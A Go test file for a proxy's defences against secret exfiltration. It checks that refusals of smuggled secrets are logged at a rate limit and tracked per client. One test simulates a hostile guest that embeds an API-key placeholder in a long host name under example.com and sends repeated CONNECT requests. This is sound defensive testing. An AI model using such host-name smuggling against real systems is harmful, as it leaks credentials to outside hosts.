package proxy

import (
	"fmt"
	"strings"
	"testing"
)

// A hostile guest sends its placeholder out of place again and again, each time in a
// long host name of its choosing. Every refusal is a decision; the warning on the
// operator's stderr is rate limited, so the guest cannot write that log at will.
func TestExfiltrationWarningsAreRateLimited(t *testing.T) {
	u := startSecretUpstream(t)
	tp, set, logs := injectProxy(t, u)
	go func() {
		for range tp.decisions {
		}
	}()
	ph := set.Placeholder("API_KEY")
	host := ph + "." + strings.Repeat("a", 900) + ".example.com"
	const attempts = 500
	for range attempts {
		rc := dialProxy(t, tp.addr)
		resp, body := rc.do(t, "CONNECT", fmt.Sprintf("CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n", host))
		expectRefusal(t, resp, body, 403, ReasonSecretExfiltration)
		rc.Close()
	}
	var warns, bytes int
	for _, l := range strings.Split(logs.String(), "\n") {
		if strings.Contains(l, "level=WARN") {
			warns++
			bytes += len(l)
		}
	}
	if warns > 10 {
		t.Errorf("%d warning lines (%d KiB of guest-chosen host names) for %d exfiltration attempts, want them rate limited", warns, bytes>>10, attempts)
	}
}

// The limit is per client: one guest's flood does not hide another guest's first
// attempt, and the clients it tracks stay bounded.
func TestExfiltrationWarningsArePerClient(t *testing.T) {
	var w exfilWarnings
	for range 100 {
		w.of("flooder").Allow()
	}
	if ok, _ := w.of("other").Allow(); !ok {
		t.Fatal("another client's first attempt was not warned about")
	}
	for i := range 3 * maxExfilClients {
		w.of(fmt.Sprint("c", i))
	}
	if n := len(w.per); n > maxExfilClients {
		t.Fatalf("%d clients tracked, want at most %d", n, maxExfilClients)
	}
}
